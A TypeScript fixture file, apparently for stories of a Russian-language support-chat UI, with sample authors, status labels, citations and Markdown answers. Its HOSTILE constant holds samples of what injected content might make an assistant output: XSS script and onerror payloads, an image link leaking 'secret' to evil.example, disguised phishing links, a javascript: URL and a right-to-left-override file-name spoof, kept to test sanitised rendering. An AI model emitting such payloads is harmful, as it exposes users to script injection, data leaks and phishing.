import type { BubbleAuthor } from './bubble'
import type { Citation, CitationLabels } from './citations'
import type { DeliveryLabels } from './delivery-state'

// People and words that the stories share.

/** An assistant. */
export const MARIA: BubbleAuthor = { kind: 'assistant', id: 'as-1', name: 'Мария', kindLabel: 'ИИ' }
/** An operator. */
export const ANNA: BubbleAuthor = {
  kind: 'operator',
  id: 'op-1',
  name: 'Анна Ковалёва',
  kindLabel: 'Оператор',
}
/** A customer. */
export const CLIENT: BubbleAuthor = { kind: 'contact', id: 'c-1', name: 'Игорь', kindLabel: 'Клиент' }

/** Words of the delivery states. */
export const DELIVERY: DeliveryLabels = {
  queued: 'В очереди',
  sending: 'Отправляем',
  sent: 'Отправлено',
  failed: 'Не отправлено:',
  cancelled: 'Отменено',
  resend: 'Отправить ещё раз',
}

/** Words of the citations. */
export const CITATION_LABELS: CitationLabels = {
  mark: ({ number, fileName, page }) => `Источник ${number}: ${fileName}${page ? `, стр. ${page}` : ''}`,
  page: (page) => `стр. ${page}`,
  sources: 'Источники',
  open: 'Открыть файл',
}

/** Passages that the sample answer rests on. */
export const CITATIONS: readonly Citation[] = [
  {
    number: 1,
    fileName: 'Условия доставки 2026.pdf',
    page: 4,
    quote: 'Доставка по Москве в пределах МКАД — 300 ₽, при заказе от 3 000 ₽ бесплатно.',
  },
  {
    number: 2,
    fileName: 'Возврат.docx',
    quote: 'Вернуть товар надлежащего качества можно в течение 14 дней.',
  },
]

/** A time of one sample day. */
export const at = (label: string) => ({ label, dateTime: `2026-11-02T${label}:00+03:00` })

/** An answer with most of what Markdown can do. */
export const ANSWER = `Здравствуйте! Доставка по Москве стоит **300 ₽**, а при заказе от 3 000 ₽ — *бесплатно* [1].

1. Соберём заказ сегодня до 18:00
2. Курьер позвонит за час
3. Вернуть можно в течение **14 дней** [2]

| Способ | Срок | Цена |
|:--|:-:|--:|
| Курьер | завтра | 300 ₽ |
| Пункт выдачи | 2–3 дня | ~~250 ₽~~ 190 ₽ |
| Почта | до 7 дней | 350 ₽ |

Подробнее — в [условиях доставки](https://shop.example/delivery).`

/** What a hostile document might have dictated. */
export const HOSTILE = `<script>alert(1)</script> <img src=x onerror=alert(1)>

![Схема проезда](https://evil.example/pixel.png?q=secret)

[Войти в банк](https://evil.example/login) · [нажмите](javascript:alert(1)) · [https://bank.example](https://evil.example)

Счёт\u202Efdp.exe и bank.example без ссылки`

/** Every form there is. */
export const FORMS = `# Заголовок первого уровня

## Второго

Абзац с **жирным**, *курсивом*, ~~зачёркнутым~~ и \`кодом\`.
Вторая строка абзаца.

> Цитата из договора
>
> > и цитата в цитате

- [x] Оплата получена
- [ ] Товар отправлен
  - вложенный пункт
  - ещё один

---

\`\`\`json
{ "order": 4812, "status": "paid" }
\`\`\`

[Каталог](https://shop.example/catalog), [позвонить](tel:+74951234567), [a@shop.example](mailto:a@shop.example)`
